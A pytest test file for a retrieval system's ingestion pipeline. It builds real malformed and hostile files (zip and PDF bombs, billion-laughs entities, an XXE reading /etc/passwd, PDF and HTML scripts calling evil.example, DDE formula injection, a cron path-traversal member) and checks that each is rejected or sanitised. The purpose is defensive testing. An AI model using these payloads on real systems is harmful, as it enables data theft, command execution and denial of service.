"""Bad and hostile input: a corpus of real broken files, ingested in one batch between good documents.

Every kind gets exactly one line in the report (failed or skipped, naming the file and a reason a person can
act on) or, where its content is legitimately readable, is ingested with nothing hostile left in the store.
The batch goes on, the good documents before and after it are searchable, documents stored earlier are
untouched, and memory stays bounded on a 200 MB text file and a zip bomb.

The files are built with the libraries that read them (python-docx, python-pptx, openpyxl, odfpy, ebooklib,
pypdf's writer, zipfile) or written byte by byte where the format is simple (PDF objects, MIME): real files, not
mocks. Two races are simulated with hooks, since a test cannot time a real one: a file deleted between listing
and reading, and a file rewritten while its loader reads it.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import docx
import openpyxl
import pptx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from odf.opendocument import OpenDocumentText
from odf.text import P
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from retrieval import ingest as ingest_module
from retrieval import loaders
from retrieval.ingest import document_id

WORKER = Path(__file__).with_name("bad_input_worker.py")
NOBODY = (65534, 65534)  # uid and gid of "nobody": permission bits bind it, unlike root
MB = 1024 * 1024
GROUPS = ["staff"]
# The memory a batch holding the 200 MB text file and the 1 GB zip bomb may add to the process, over what it held
# before the batch. Reading the text file whole would add 200 MB; parsing the bomb, gigabytes.
MEMORY_BOUND_MB = 64


# --- writing real files ----------------------------------------------------------------------------------------


def pdf_bytes(objects: list[bytes]) -> bytes:
    """A PDF written by hand: objects numbered from 1 (the first is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def page_objects(content: bytes, kids: bytes = b"[3 0 R]", count: int = 1, extra: bytes = b"") -> list[bytes]:
    """Catalog, page tree, one page, its content stream and a standard font: objects 1 to 5."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids %s /Count %d >>" % (kids, count),
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>"
        ),
        stream(content, extra),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def text_pdf(text: str) -> bytes:
    return pdf_bytes(page_objects(b"BT /F1 12 Tf 72 700 Td (%s) Tj ET" % text.encode("latin-1")))


def docx_file(path: Path, *paragraphs: str) -> Path:
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    document.save(path)
    return path


def rezip(source: Path, target: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None):
    """A copy of a zip-based document with members replaced or added, as a hostile editor would make it."""
    replace = replace or {}
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.infolist():
            new.writestr(member, replace.get(member.filename, old.read(member.filename)))
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return target


def member(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


def with_doctype(xml: str, root: str, declarations: str) -> str:
    """The XML with a DOCTYPE of our own declarations inserted after its XML declaration (or at its start)."""
    doctype = f"<!DOCTYPE {root} [{declarations}]>"
    if xml.startswith("<?xml"):
        end = xml.index("?>") + 2
        return xml[:end] + doctype + xml[end:]
    return doctype + xml


# Nine levels of ten references each: a billion "lol"s once expanded (3 GB of text).
LAUGHS = '<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
)


def write_bomb_docx(path: Path) -> Path:
    """A DOCX whose document.xml expands from about 6 MB to 1 GB: a real zip bomb, not a forged header."""
    paragraph = b"<w:p><w:r><w:t>lol</w:t></w:r></w:p>" * 28_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types/>')
        with archive.open("word/document.xml", "w", force_zip64=True) as xml:
            for _ in range(1024 * MB // len(paragraph)):
                xml.write(paragraph)
    return path


def write_pdf_bomb(path: Path) -> Path:
    """A one-page PDF whose content stream inflates from a few hundred KB to 100 MB, past the PDF guard's 200:1."""
    packer = zlib.compressobj(9)
    packed = [packer.compress(b"BT /F1 12 Tf 72 700 Td (Bomb) Tj ET\n")]
    spaces = b" " * MB
    packed += [packer.compress(spaces) for _ in range(100)]
    packed.append(packer.flush())
    path.write_bytes(pdf_bytes(page_objects(b"".join(packed), extra=b"/Filter /FlateDecode ")))
    return path


def write_text(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


# --- the corpus ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One kind of bad input and what ingesting it must give."""

    name: str
    outcome: str  # "failed" or "skipped": one report line with `reason` in it; "ingested": stored, searchable
    reason: str  # failed/skipped: part of the reason; ingested: a phrase of the file that search must find
    make: Callable[[Path, Heavy | None], Path]  # builds the file in the folder given; returns the path reported
    named: bool = False  # given to ingest by its path; otherwise met while walking the folder
    absent: tuple[str, ...] = ()  # ingested: strings its stored text must not hold (scripts, payloads...)
    run: str = "batch"  # "batch": in the test process's batch; "nobody": in a process of the user nobody


@dataclass(frozen=True)
class Heavy:
    """Files that take a second or more to write, built once per module and copied into each corpus."""

    zip_bomb: Path
    pdf_bomb: Path


def make_empty(d, heavy):
    (d / "empty.txt").write_bytes(b"")
    return d / "empty.txt"


def make_huge_text(d, heavy):
    # Sparse: the size is real to stat, and the file is refused from its size before a byte is read (the memory
    # test below writes 200 MB of real text instead).
    path = d / "export-200mb.txt"
    with path.open("wb") as handle:
        handle.truncate(200 * MB)
    return path


def make_symlink_loop(d, heavy):
    (d / "loop.md").symlink_to("loop.md")
    return d / "loop.md"


def make_folder_link_to_parent(d, heavy):
    (d / "sub").mkdir(exist_ok=True)
    (d / "sub" / "up").symlink_to("..", target_is_directory=True)
    return d / "sub" / "up"


def make_broken_link(d, heavy):
    (d / "dangling.md").symlink_to("no-such-file.md")
    return d / "dangling.md"


def outside_secret(d: Path) -> Path:
    secret = d.parent / "outside" / "salaries.txt"
    secret.parent.mkdir(exist_ok=True)
    write_text(secret, "Confidential: the director's salary is 250,000 a year.")
    return secret


def make_link_out_of_folder(d, heavy):
    outside_secret(d)
    (d / "salaries.txt").symlink_to(Path("..") / "outside" / "salaries.txt")
    return d / "salaries.txt"


def make_dotdot_path(d, heavy):
    outside_secret(d)
    (d / "sub").mkdir(exist_ok=True)
    return d / "sub" / ".." / ".." / "outside" / "salaries.txt"


def make_fifo(d, heavy):
    os.mkfifo(d / "pipe.txt")
    return d / "pipe.txt"


def make_device(d, heavy):
    return Path("/dev/zero")  # read as a document, it would never end


def make_vanishing(d, heavy):
    return write_text(d / "vanishes.md", "# Draft\n\nThis draft is deleted before it is read.")


def make_moving(d, heavy):
    # Stored earlier as version 1 (see the test); now version 2 on disk, and the loader hook writes version 3.
    return write_text(d / "moving.md", MOVING.format(time="7:30"))


def make_undecodable_name(d, heavy):
    path = Path(os.fsdecode(bytes(d) + b"/caf\xe9-menu.txt"))  # Latin-1 bytes, not UTF-8
    path.write_text("The menu changes every Monday.")
    return path


def make_odd_name(d, heavy):
    # A newline, a right-to-left override, a combining accent, CJK and an emoji: legal in a Linux file name.
    return write_text(
        d / "shed\nrules \u202eevil\u0301 文件 🚲.md", "# Shed\n\nThe bicycle shed is behind the north gate."
    )


def make_locked_file(d, heavy):
    path = write_text(d / "locked.txt", "Nobody may read this file.")
    path.chmod(0)
    return path


def make_locked_folder(d, heavy):
    folder = d / "locked-folder"
    folder.mkdir()
    write_text(folder / "inside.md", "# Inside\n\nA file in a folder nobody may list.")
    folder.chmod(0)
    return folder


def make_pdf_named_docx(d, heavy):
    (d / "report.docx").write_bytes(text_pdf("A PDF renamed to .docx"))
    return d / "report.docx"


def make_executable(d, heavy):
    (d / "setup.exe").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(1000))
    return d / "setup.exe"


def make_gzip_named_txt(d, heavy):
    (d / "notes.txt").write_bytes(gzip.compress(b"Compressed notes about the archive.\n" * 200))
    return d / "notes.txt"


def make_invalid_utf8(d, heavy):
    data = b"Invoices are approved by the finance controller every Friday. Caf\xe9 \xff\xfe receipts \xc3\x28 too.\n"
    (d / "invoices.txt").write_bytes(data * 5)
    return d / "invoices.txt"


def make_nul_bytes(d, heavy):
    (d / "nul.txt").write_bytes(b"Meeting notes\x00\x00 about parking.\n" * 50)
    return d / "nul.txt"


def make_utf16_without_bom(d, heavy):
    text = "Fire drills take place on the first Monday of each quarter.\n" * 3
    (d / "fire-drills.txt").write_bytes(text.encode("utf-16-le"))
    return d / "fire-drills.txt"


def make_huge_line(d, heavy):
    blob = random.Random(3).randbytes(1_500_000)
    (d / "dump.txt").write_bytes(base64.b64encode(blob))  # 2 MB on one line, no spaces
    return d / "dump.txt"


BLOB = "QUJD" * 15_000  # 60,000 characters of base64 inside a readable file


def make_prose_with_blob(d, heavy):
    text = f"# Library\n\nThe library closes at six in the evening.\n\n![logo](data:image/png;base64,{BLOB})\n"
    return write_text(d / "library.md", text)


def make_truncated_pdf(d, heavy):
    data = pdf_bytes(page_objects(b"BT /F1 12 Tf 72 700 Td (Cut short) Tj ET"))
    (d / "truncated.pdf").write_bytes(data[: len(data) // 3])
    return d / "truncated.pdf"


def make_encrypted_pdf(d, heavy):
    (d / "plain.tmp").write_bytes(text_pdf("Top secret budget."))
    writer = PdfWriter(clone_from=d / "plain.tmp")
    writer.encrypt("a password nobody gave us")
    writer.write(d / "encrypted.pdf")
    (d / "plain.tmp").unlink()
    return d / "encrypted.pdf"


def make_image_only_pdf(d, heavy):
    pixels = zlib.compress(bytes([200, 30, 30]) * 64 * 64)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /XObject << /Im0 5 0 R >> >> >>"
        ),
        stream(b"q 300 0 0 300 100 300 cm /Im0 Do Q"),
        stream(
            pixels,
            b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB "
            b"/BitsPerComponent 8 /Filter /FlateDecode ",
        ),
    ]
    (d / "scan.pdf").write_bytes(pdf_bytes(objects))
    return d / "scan.pdf"


def make_pdf_with_javascript(d, heavy):
    (d / "plain.tmp").write_bytes(text_pdf("Travel expenses must be claimed within thirty days."))
    writer = PdfWriter(clone_from=d / "plain.tmp")
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example/?jssecret');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    writer.write(d / "travel.pdf")
    (d / "plain.tmp").unlink()
    return d / "travel.pdf"


def make_pdf_page_loop(d, heavy):
    # The page tree lists itself among its own kids.
    objects = page_objects(b"BT /F1 12 Tf 72 700 Td (Loop) Tj ET", kids=b"[2 0 R 3 0 R]", count=2)
    (d / "loop.pdf").write_bytes(pdf_bytes(objects))
    return d / "loop.pdf"


def make_pdf_bomb(d, heavy):
    return shutil.copy(heavy.pdf_bomb, d / "inflates.pdf")


def make_zip_bomb(d, heavy):
    return shutil.copy(heavy.zip_bomb, d / "bomb.docx")


def make_docx_size_lie(d, heavy):
    # A bomb that escapes the size check by lying: its headers say document.xml is 1,000 bytes, its data holds
    # 20 MB. zipfile stops at the declared size, so the lie only breaks the checksum.
    base = docx_file(d / "base.tmp", "MARKER")
    xml = member(base, "word/document.xml").replace("MARKER", "lol " * 5_000_000)
    path = rezip(base, d / "understated.docx", {"word/document.xml": xml.encode()})
    base.unlink()
    data = bytearray(path.read_bytes())
    end = data.rindex(b"PK\x05\x06")  # end of central directory: where the central directory starts
    (entries,), (offset,) = struct.unpack_from("<H", data, end + 10), struct.unpack_from("<I", data, end + 16)
    for _ in range(entries):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, offset + 28)
        if data[offset + 46 : offset + 46 + name_length] == b"word/document.xml":
            (local,) = struct.unpack_from("<I", data, offset + 42)
            struct.pack_into("<I", data, offset + 24, 1000)  # central directory's uncompressed size
            struct.pack_into("<I", data, local + 22, 1000)  # local header's
        offset += 46 + name_length + extra_length + comment_length
    path.write_bytes(data)
    return path


def make_docx_laughs(d, heavy):
    base = docx_file(d / "base.tmp", "Visible words &lol9;")
    xml = with_doctype(member(base, "word/document.xml"), "w:document", LAUGHS)
    rezip(base, d / "laughs.docx", {"word/document.xml": xml.replace("Visible words &amp;lol9;", "&lol9;").encode()})
    base.unlink()
    return d / "laughs.docx"


def make_docx_xxe(d, heavy):
    base = docx_file(d / "base.tmp", "Parking permits renew every January. MARKER")
    xml = with_doctype(member(base, "word/document.xml"), "w:document", '<!ENTITY xxe SYSTEM "file:///etc/passwd">')
    rezip(base, d / "parking.docx", {"word/document.xml": xml.replace("MARKER", "&xxe;").encode()})
    base.unlink()
    return d / "parking.docx"


def make_docx_deep(d, heavy):
    base = docx_file(d / "base.tmp", "Deep")
    xml = member(base, "word/document.xml")
    nested = "<w:sdt><w:sdtContent>" * 5_000
    closed = "</w:sdtContent></w:sdt>" * 5_000
    xml = xml.replace("<w:body>", "<w:body>" + nested, 1).replace("</w:body>", closed + "</w:body>", 1)
    rezip(base, d / "deep.docx", {"word/document.xml": xml.encode()})
    base.unlink()
    return d / "deep.docx"


ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def make_docx_remote(d, heavy):
    document = docx.Document()
    document.add_paragraph("The help desk opens at eight every weekday.")
    # Remote template (Word's "template injection") and remote image: a reader that fetched them would beacon out.
    document.part._settings_part.relate_to("http://evil.example/template.dotm", ATTACHED_TEMPLATE, is_external=True)
    document.part.relate_to("http://evil.example/pixel.png", RT.IMAGE, is_external=True)
    document.save(d / "helpdesk.docx")
    return d / "helpdesk.docx"


def make_odt_laughs(d, heavy):
    odt = OpenDocumentText()
    odt.text.addElement(P(text="MARKER"))
    odt.save(str(d / "base.tmp"))
    xml = with_doctype(member(d / "base.tmp", "content.xml"), "office:document-content", LAUGHS)
    rezip(d / "base.tmp", d / "laughs.odt", {"content.xml": xml.replace("MARKER", "&lol9;").encode()})
    (d / "base.tmp").unlink()
    return d / "laughs.odt"


def make_xlsx_laughs(d, heavy):
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Laughs"
    workbook.save(d / "base.tmp")
    xml = with_doctype(member(d / "base.tmp", "xl/worksheets/sheet1.xml"), "worksheet", LAUGHS)
    rezip(d / "base.tmp", d / "laughs.xlsx", {"xl/worksheets/sheet1.xml": xml.encode()})
    (d / "base.tmp").unlink()
    return d / "laughs.xlsx"


def make_xlsx_formulas(d, heavy):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Supplier", "Link", "Total"])
    sheet.append(["Acme Paper Company", '=HYPERLINK("http://evil.example/?"&A2,"open")', "=cmd|' /C calc'!A0"])
    workbook.save(d / "suppliers.xlsx")
    return d / "suppliers.xlsx"


def make_csv_formulas(d, heavy):
    return write_text(
        d / "furniture.csv",
        'item,price\nErgonomic office chairs,=cmd|\' /C calc\'!A0\nStanding desks,"=HYPERLINK(""http://x"")"\n',
    )


def make_csv_huge_field(d, heavy):
    return write_text(d / "wide.csv", "id,notes\n1," + "x" * 200_000 + "\n")


def make_pptx_traversal(d, heavy):
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Quarterly review"
    deck.save(d / "base.tmp")
    extra = {"../../../etc/cron.d/evil": b"* * * * * root id", "/tmp/evil.txt": b"evil"}
    rezip(d / "base.tmp", d / "review.pptx", add=extra)
    (d / "base.tmp").unlink()
    return d / "review.pptx"


def make_truncated_epub(d, heavy):
    from ebooklib import epub

    book = epub.EpubBook()
    book.set_identifier("bad-input")
    book.set_title("Cut short")
    chapter = epub.EpubHtml(title="One", file_name="one.xhtml", content="<h1>One</h1><p>A chapter.</p>")
    book.add_item(chapter)
    book.spine = [chapter]
    epub.write_epub(str(d / "base.tmp"), book)
    data = (d / "base.tmp").read_bytes()
    (d / "book.epub").write_bytes(data[: len(data) // 2])  # the central directory is gone
    (d / "base.tmp").unlink()
    return d / "book.epub"


def make_deep_html(d, heavy):
    depth = 20_000  # before the depth limit, preparing this tree took about a minute (quadratic in depth)
    html = "<html><body><p>Top</p>" + "<div>" * depth + "deep" + "</div>" * depth + "</body></html>"
    return write_text(d / "deep.html", html)


def make_html_with_scripts(d, heavy):
    html = """<html><head><title>Canteen</title>
<script>var scriptsecret = 1; fetch("http://evil.example/steal");</script>
<style>.hidden { color: red } /* stylesecret */</style>
<meta http-equiv="refresh" content="0;url=http://evil.example/"></head>
<body onload="alert('onloadsecret')"><h1>Canteen menu</h1>
<p>The canteen serves lentil soup on Tuesdays.</p>
<img src="http://evil.example/pixel.gif"><iframe src="http://evil.example/frame"></iframe>
<noscript>noscriptsecret</noscript><a href="javascript:alert('hrefsecret')">menu</a>
<div style="display:none">hiddensecret</div>
<script>document.write("inlinesecret")</script></body></html>"""
    return write_text(d / "canteen.html", html)


def make_yaml_bomb(d, heavy):
    aliases = "".join(f"b{n}: &b{n} [{', '.join([f'*b{n - 1}'] * 9)}]\n" for n in range(1, 10))
    text = f"---\nb0: &b0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n{aliases}title: *b9\n---\n"
    text += "# Badges\n\nBadges are renewed at reception every two years.\n"
    return write_text(d / "badges.md", text)


def make_broken_eml(d, heavy):
    data = (
        b"From: facilities@example.org\nSubject: =?utf-8?B?!!!not-base64?=\nMIME-Version: 1.0\n"
        b"Content-Type: multipart/mixed; boundary=XYZ\n\n--XYZ\nContent-Type: text/plain; charset=no-such-charset\n\n"
        b"The quarterly town hall moves to the large auditorium.\n--XYZ\n"
        b"Content-Type: application/pdf; name=agenda.pdf\nContent-Transfer-Encoding: base64\n\n@@@not base64@@@\n"
    )  # and no closing boundary
    (d / "townhall.eml").write_bytes(data)
    return d / "townhall.eml"


def make_broken_msg(d, heavy):
    (d / "outlook.msg").write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + random.Random(5).randbytes(4000))
    return d / "outlook.msg"


def nested_mail(levels: int, outer_body: str) -> str:
    """A message forwarding a message forwarding a message ..., `levels` deep, written as MIME text."""
    message = "Subject: level 0\nContent-Type: text/plain\n\nThe innermost message.\n"
    for level in range(1, levels):
        body = outer_body if level == levels - 1 else f"Forwarded {level}."
        message = (
            f"Subject: level {level}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b{level}\n\n"
            f"--b{level}\nContent-Type: text/plain\n\n{body}\n--b{level}\nContent-Type: message/rfc822\n\n"
            f"{message}\n--b{level}--\n"
        )
    return message


def make_nested_mail(d, heavy):
    # Each level is re-serialised and parsed again when its attachment is read: the cost grew with the square of
    # the depth (60 levels, 3.6 s) until attachments stopped at 8 levels.
    return write_text(d / "thread.eml", nested_mail(40, "Outer message about the office relocation timetable."))


def make_very_nested_mail(d, heavy):
    return write_text(d / "chain.eml", nested_mail(1_000, "A chain letter."))


MOVING = "# Shuttle\n\nThe shuttle bus leaves at {time} from the main entrance."

CASES: list[Case] = [
    # files and folders
    Case("zero bytes", "failed", "empty file", make_empty),
    Case("200 MB text file", "failed", "file too large: 200 MB, limit 100 MB", make_huge_text),
    Case("symlink loop", "failed", "symlink loop", make_symlink_loop),
    Case("folder link back to its parent", "skipped", "a link to the folder", make_folder_link_to_parent),
    Case("broken symlink", "failed", "broken link", make_broken_link),
    Case("symlink out of the folder", "skipped", "outside the folder being ingested", make_link_out_of_folder),
    Case("path with ..", "failed", "climbs out of a folder with '..'", make_dotdot_path, named=True),
    Case("named pipe (fifo)", "skipped", "not a regular file", make_fifo),
    Case("device file", "failed", "not a regular file", make_device, named=True),
    Case("deleted between listing and reading", "failed", "moved or deleted after it was listed", make_vanishing),
    Case("changed while being read", "failed", "changed while being read", make_moving),
    Case("file name not valid UTF-8", "failed", "not valid UTF-8", make_undecodable_name),
    Case(
        "file name with a newline and odd unicode", "ingested", "bicycle shed is behind the north gate", make_odd_name
    ),
    Case("file without read permission", "failed", "permission denied", make_locked_file, run="nobody"),
    Case(
        "folder without read permission",
        "failed",
        "cannot list the folder: permission denied",
        make_locked_folder,
        run="nobody",
    ),
    Case("PDF with a .docx extension", "failed", "not a zip archive", make_pdf_named_docx),
    Case("executable", "skipped", "unsupported file type '.exe'", make_executable),
    Case("gzip named .txt", "failed", "not a text file", make_gzip_named_txt),
    # text
    Case("invalid UTF-8", "ingested", "approved by the finance controller every Friday", make_invalid_utf8),
    Case("NUL bytes in text", "failed", "holds NUL bytes", make_nul_bytes),
    Case("UTF-16 without BOM", "ingested", "first Monday of each quarter", make_utf16_without_bom),
    Case("2 MB line without spaces", "failed", "encoded data", make_huge_line),
    Case(
        "base64 blob in prose", "ingested", "closes at six in the evening", make_prose_with_blob, absent=(BLOB[:400],)
    ),
    # PDF
    Case("truncated PDF", "failed", "not a readable PDF", make_truncated_pdf),
    Case("encrypted PDF", "failed", "encrypted PDF: decrypt it first", make_encrypted_pdf),
    Case("PDF with only images", "failed", "no extractable text", make_image_only_pdf),
    Case(
        "PDF with a JavaScript action",
        "ingested",
        "claimed within thirty days",
        make_pdf_with_javascript,
        absent=("jssecret", "launchURL"),
    ),
    Case("PDF page tree that loops", "failed", "not a readable PDF", make_pdf_page_loop),
    Case("PDF decompression bomb", "failed", "decompression bomb", make_pdf_bomb),
    # zip-based formats
    Case("DOCX zip bomb", "failed", "as a zip bomb does", make_zip_bomb),
    Case("DOCX whose headers understate its size", "failed", "Bad CRC-32", make_docx_size_lie),
    Case("DOCX billion laughs", "failed", "billion laughs", make_docx_laughs),
    Case(
        "DOCX external entity (XXE)",
        "ingested",
        "Parking permits renew every January",
        make_docx_xxe,
        absent=("root:x:0",),
    ),
    Case("DOCX nested 5,000 deep", "failed", "nested more than 256 levels deep", make_docx_deep),
    Case(
        "DOCX with remote template and image",
        "ingested",
        "help desk opens at eight",
        make_docx_remote,
        absent=("evil.example",),
    ),
    Case("ODT billion laughs", "failed", "declares XML entities", make_odt_laughs),
    Case("XLSX billion laughs", "failed", "declares XML entities", make_xlsx_laughs),
    Case("XLSX with formulas", "ingested", "Acme Paper Company", make_xlsx_formulas, absent=("cmd|", "HYPERLINK")),
    Case("CSV with formulas", "ingested", "Ergonomic office chairs", make_csv_formulas),
    Case("CSV with a 200,000-character field", "failed", "longer than 131,072 characters", make_csv_huge_field),
    Case("PPTX with path traversal member names", "failed", "leads out of the archive", make_pptx_traversal),
    Case("EPUB with a broken zip", "failed", "not a zip archive", make_truncated_epub),
    # markup and mail
    Case("HTML nested 20,000 deep", "failed", "more than 256 levels deep", make_deep_html),
    Case(
        "HTML with scripts",
        "ingested",
        "lentil soup on Tuesdays",
        make_html_with_scripts,
        absent=(
            "scriptsecret",
            "stylesecret",
            "onloadsecret",
            "noscriptsecret",
            "hrefsecret",
            "hiddensecret",
            "inlinesecret",
            "evil.example",
        ),
    ),
    Case("Markdown with a YAML alias bomb", "ingested", "renewed at reception every two years", make_yaml_bomb),
    Case("broken EML", "ingested", "town hall moves to the large auditorium", make_broken_eml),
    Case("broken MSG", "failed", "not a readable MSG", make_broken_msg),
    Case("mail nested 40 messages deep", "ingested", "office relocation timetable", make_nested_mail),
    Case("mail nested 1,000 messages deep", "failed", "nested too deeply", make_very_nested_mail),
]


def test_the_corpus_counts_its_kinds():
    names = [case.name for case in CASES]
    assert len(names) == len(set(names)), "each kind once"
    assert len(CASES) >= 30
    assert len(CASES) == 49
    assert {case.outcome for case in CASES} == {"failed", "skipped", "ingested"}
    assert {case.run for case in CASES} == {"batch", "nobody"}
    by_outcome = {
        outcome: sum(case.outcome == outcome for case in CASES) for outcome in ("failed", "skipped", "ingested")
    }
    assert by_outcome == {"failed": 32, "skipped": 4, "ingested": 13}


# --- helpers ------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def heavy(tmp_path_factory) -> Heavy:
    folder = tmp_path_factory.mktemp("heavy")
    return Heavy(zip_bomb=write_bomb_docx(folder / "bomb.docx"), pdf_bomb=write_pdf_bomb(folder / "bomb.pdf"))


def reader():
    from assistant import User

    return User("reader", tuple(GROUPS))


def store_points(assistant) -> dict[str, tuple]:
    """Every chunk point: id -> (doc_id, chunk, content_hash, text)."""
    points, offset = {}, None
    while True:
        batch, offset = assistant.store.scroll_chunks(limit=256, offset=offset)
        for node in batch:
            points[node.id_] = (
                node.metadata["doc_id"],
                node.metadata["chunk"],
                node.metadata["content_hash"],
                node.text,
            )
        if offset is None:
            return points


def found(assistant, query: str, path: Path, phrase: str) -> bool:
    return any(hit.path == str(path.resolve()) and phrase in hit.text for hit in assistant.search(query, reader(), k=5))


def lines_for(report, path: Path) -> list[tuple[str, str]]:
    shown = os.fsencode(path).decode("utf-8", "backslashreplace")
    return [
        (kind, line.reason) for kind in ("failed", "skipped") for line in getattr(report, kind) if line.path == shown
    ]


# --- the batch ----------------------------------------------------------------------------------------------------

PRIOR = {
    "prior-leave.md": ("# Leave\n\nEvery employee gets 27 days of annual leave.", "how many days of annual leave"),
    "prior-visitors.md": ("# Visitors\n\nVisitors must sign in at the front desk.", "where do visitors sign in"),
}
GOOD = {  # name: (text, query); "000" sorts before every bad file, "zzz" after
    "000-good-before.md": ("# Canteen card\n\nThe canteen accepts payment by staff card only.", "how do I pay"),
    "zzz-good-after.md": ("# Lost property\n\nLost property is kept at the security office.", "lost property"),
}
NAMED_GOOD = {
    "aaa-first.md": ("# Print room\n\nThe print room is on the second floor.", "where is the print room"),
    "zzz-last.md": ("# Gym\n\nThe gym opens to staff at six in the morning.", "when does the gym open"),
}


@pytest.mark.parametrize("store", ["memory", "embedded on disk"])
def test_every_bad_kind_gets_one_clear_line_and_the_batch_goes_on(make_assistant, tmp_path, heavy, monkeypatch, store):
    assistant = make_assistant(**({"qdrant_path": str(tmp_path / "q")} if store != "memory" else {}))
    docs, named = tmp_path / "docs", tmp_path / "named"
    docs.mkdir()
    named.mkdir()

    # Documents stored by an earlier batch, one of them (moving.md) about to change while it is read.
    for name, (text, _) in PRIOR.items():
        write_text(docs / name, text)
    write_text(docs / "moving.md", MOVING.format(time="7:15"))
    assistant.ingest([docs], groups=GROUPS)
    before = store_points(assistant)
    prior_ids = {document_id(docs / name) for name in [*PRIOR, "moving.md"]}
    assert {doc_id for doc_id, *_ in before.values()} == prior_ids

    for name, (text, _) in GOOD.items():
        write_text(docs / name, text)
    for name, (text, _) in NAMED_GOOD.items():
        write_text(named / name, text)
    cases = [case for case in CASES if case.run == "batch"]
    paths = {case.name: case.make(named if case.named else docs, heavy) for case in cases}

    # The races: a file deleted after the folder is listed, and one rewritten while its loader reads it.
    vanishing = paths["deleted between listing and reading"]
    real_list_files = ingest_module.list_files

    def list_then_delete(*args):
        listing = real_list_files(*args)
        vanishing.unlink()
        return listing

    monkeypatch.setattr(ingest_module, "list_files", list_then_delete)
    kind, load_markdown = loaders._LOADERS[".md"]

    def load_while_written(path):
        if path.name == "moving.md":
            path.write_text(MOVING.format(time="7:45"))
        return load_markdown(path)

    monkeypatch.setitem(loaders._LOADERS, ".md", (kind, load_while_written))

    named_bad = [paths[case.name] for case in cases if case.named]
    report = assistant.ingest(
        [named / "aaa-first.md", docs, *named_bad, named / "zzz-last.md"], groups=GROUPS, progress=False
    )

    # One line per bad kind, with its reason; the ingested kinds stored, with nothing hostile left in them.
    points = store_points(assistant)
    stored_text = "\n".join(text for *_, text in points.values())
    for case in cases:
        path = paths[case.name]
        lines = lines_for(report, path)
        if case.outcome == "ingested":
            assert lines == [], case.name
            assert str(path.resolve()) in report.added, case.name
            assert found(assistant, case.reason, path, case.reason), case.name
            its_text = "\n".join(text for doc_id, *_, text in points.values() if doc_id == document_id(path))
            for text in case.absent:
                assert text not in its_text, f"{case.name}: {text!r} was stored"
        else:
            assert [kind for kind, _ in lines] == [case.outcome], f"{case.name}: {lines}"
            assert case.reason in lines[0][1], f"{case.name}: {lines[0][1]}"
    expected_lines = sum(case.outcome != "ingested" for case in cases)
    assert len(report.failed) + len(report.skipped) == expected_lines, report.failed + report.skipped

    # The good documents before and after the bad ones are stored and found.
    good = {docs / name: query for name, (_, query) in GOOD.items()}
    good |= {named / name: query for name, (_, query) in NAMED_GOOD.items()}
    for path, query in good.items():
        assert str(path.resolve()) in report.added
        text = path.read_text().split("\n\n")[1]
        assert found(assistant, query, path, text), path.name
    ingested = [case for case in cases if case.outcome == "ingested"]
    assert sorted(report.added) == sorted(str(p.resolve()) for p in [*good, *(paths[c.name] for c in ingested)])

    # What the earlier batch stored is untouched, the changed file included: its version 1 is what is searched.
    assert {key: value for key, value in points.items() if value[0] in prior_ids} == before
    assert found(assistant, "when does the shuttle bus leave", docs / "moving.md", "7:15")
    assert len(report.unchanged) == len(PRIOR)
